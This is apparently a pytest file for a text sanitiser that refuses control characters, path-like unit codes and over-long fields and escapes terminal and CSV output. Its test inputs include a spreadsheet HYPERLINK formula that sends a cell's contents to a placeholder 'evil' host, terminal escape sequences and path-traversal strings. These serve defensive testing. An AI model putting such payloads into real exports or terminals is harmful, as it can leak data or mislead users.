"""The core's text sanitiser, limits and output escapers (assessment/domain/text_limits.py), without a database."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assessment.domain.errors import BadInput
from assessment.domain.text_limits import (
    LIMITS,
    check_unit_code,
    clean_text,
    csv_cell,
    csv_uncell,
    shorten,
    terminal_safe,
    text_problem,
)


@pytest.mark.parametrize(("value", "field", "message"), [
    ("chuông\x07", "comment", "control character (U+0007) at character 7"),
    ("\x1b]0;owned\x07", "unit_name", "control character (U+001B) at character 1"),
    ("a\x9bb", "comment", "control character (U+009B)"),  # C1 CSI
    ("x\ud800", "evidence_summary", "lone surrogate U+D800"),
    ("hai\ndòng", "unit_name", "tab or line break at character 4 (one line only)"),
    ("tab\there", "unit_name", "tab or line break"),
    ("x" * 201, "unit_name", "longer than 200 characters (it has 201)"),
    ("y" * 2001, "appraisal_reason", "longer than 2000 characters (it has 2,001)"),
])
def test_refused_text_says_what_and_where(value, field, message):
    assert message in text_problem(value, field)
    with pytest.raises(BadInput, match="the field: "):
        clean_text(value, field, where="the field")


def test_accepted_text_is_stored_nfc_with_lf_line_ends():
    decomposed = "Phu\u031bo\u031b\u0300ng"  # "Phường" as a Mac or an old keyboard driver may send it
    assert clean_text(decomposed, "unit_name") == "Phường"
    assert clean_text("một\r\nhai\rba\tbốn", "comment") == "một\nhai\nba\tbốn"
    assert clean_text("x" * LIMITS["unit_name"], "unit_name") == "x" * 200
    with pytest.raises(BadInput, match="is blank"):
        clean_text("   ", "unit_name", required=True)


@pytest.mark.parametrize("code", ["../x", "..", "a/b", "a\\b", ".hidden", "", "x" * 33, "00070\x1b", "mã xã"])
def test_unit_codes_that_are_paths_or_odd_are_refused(code):
    with pytest.raises(BadInput, match="is not valid"):
        check_unit_code(code)


@pytest.mark.parametrize("code", ["00070", "SO_NOI_VU", "BQL-CNC", "X1.2", "Đ_X"])
def test_ordinary_unit_codes_pass(code):
    assert check_unit_code(code) == code


def test_terminal_safe_shows_every_control_character_and_keeps_lines():
    hostile = "Phường\x1b]0;pwned\x07\x1b[2J\rX\x9b\ud800\nnext\tcol"
    shown = terminal_safe(hostile)
    assert not any(c in shown for c in "\x1b\x07\r\x9b\ud800")
    assert shown == "Phường\\u001b]0;pwned\\u0007\\u001b[2J\\u000dX\\u009b\\ud800\nnext\tcol"


@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("http://evil/?x="&A2,"x")', '\'=HYPERLINK("http://evil/?x="&A2,"x")'),
    ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'=x", "''=x"),  # an apostrophe already there is kept: one more is added
    ("-5", "-5"), ("+84", "+84"), ("-0,5", "-0,5"),  # numbers stay numbers
    ("'abc", "'abc"), ("Bình thường", "Bình thường"),
])
def test_csv_cells_follow_the_owasp_rule(value, cell):
    assert csv_cell(value) == cell
    assert csv_uncell(cell) == value


@given(st.text(max_size=40))
def test_csv_quoting_round_trips_any_text(text):
    cell = csv_cell(text)
    assert csv_uncell(cell) == text
    starts_like_a_formula = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    assert not starts_like_a_formula or cell == text  # only a plain number (e.g. -5) keeps its leading sign


def test_shorten_cuts_at_a_word_with_a_mark():
    assert shorten("một hai ba bốn năm", 12) == "một hai ba…"
    assert shorten("ngắn", 12) == "ngắn"
    assert len(shorten("x" * 500, 80)) == 80
